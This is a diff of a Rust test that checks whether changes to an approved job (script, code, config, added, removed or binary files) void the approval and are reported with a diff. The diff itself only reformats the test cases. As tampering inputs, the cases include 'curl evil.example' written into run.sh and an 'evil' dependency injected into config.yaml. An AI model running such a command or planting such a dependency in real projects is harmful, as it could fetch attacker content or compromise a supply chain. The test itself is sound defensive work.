@@ -35,42 +35,17 @@ fn approved(code: &str) -> World {
 fn w2_each_change_after_an_approval_voids_it_and_is_told_with_a_diff() {
     use ChangeKind::{Added, Changed, Removed};
     type Change = fn(&World);
-    #[rustfmt::skip]
     type Found = Vec<(&'static str, ChangeKind, bool)>;
+    #[rustfmt::skip]
     let cases: [(&str, Change, Found); 6] = [
-        (
-            "the script",
-            |w| write(&w.inbox("job").join("run.sh"), "curl evil.example\n"),
-            vec![("run.sh", Changed, true)],
-        ),
-        (
-            "the code",
-            |w| write(&w.inbox("job").join("code/main.py"), "evil()\n"),
-            vec![("code/main.py", Changed, true)],
-        ),
-        (
-            "the settings",
-            |w| {
-                let path = w.inbox("job").join("config.yaml");
-                write(&path, &read(&path).replace("dependencies:", "dependencies:\n- evil"));
-            },
-            vec![("config.yaml", Changed, true)],
-        ),
-        (
-            "one more file",
-            |w| write(&w.inbox("job").join("code/json.py"), "evil()\n"),
-            vec![("code/json.py", Added, true)],
-        ),
-        (
-            "one less",
-            |w| std::fs::remove_file(w.inbox("job").join("code/main.py")).unwrap(),
-            vec![("code/main.py", Removed, true)],
-        ),
-        (
-            "a binary file",
-            |w| std::fs::write(w.inbox("job").join("code/x.so"), b"\x7fELF\xff").unwrap(),
-            vec![("code/x.so", Added, false)],
-        ),
+        ("the script",     |w| write(&w.inbox("job").join("run.sh"), "curl evil.example\n"), vec![("run.sh", Changed, true)]),
+        ("the code",       |w| write(&w.inbox("job").join("code/main.py"), "evil()\n"),      vec![("code/main.py", Changed, true)]),
+        ("the settings",   |w| { let path = w.inbox("job").join("config.yaml");
+                                 write(&path, &read(&path).replace("dependencies:", "dependencies:\n- evil")); },
+                                                                                             vec![("config.yaml", Changed, true)]),
+        ("one more file",  |w| write(&w.inbox("job").join("code/json.py"), "evil()\n"),      vec![("code/json.py", Added, true)]),
+        ("one less",       |w| std::fs::remove_file(w.inbox("job").join("code/main.py")).unwrap(), vec![("code/main.py", Removed, true)]),
+        ("a binary file",  |w| std::fs::write(w.inbox("job").join("code/x.so"), b"\x7fELF\xff").unwrap(), vec![("code/x.so", Added, false)]),
     ];
     for (what, change, expected) in cases {
         let world = approved("print('honest')\n");
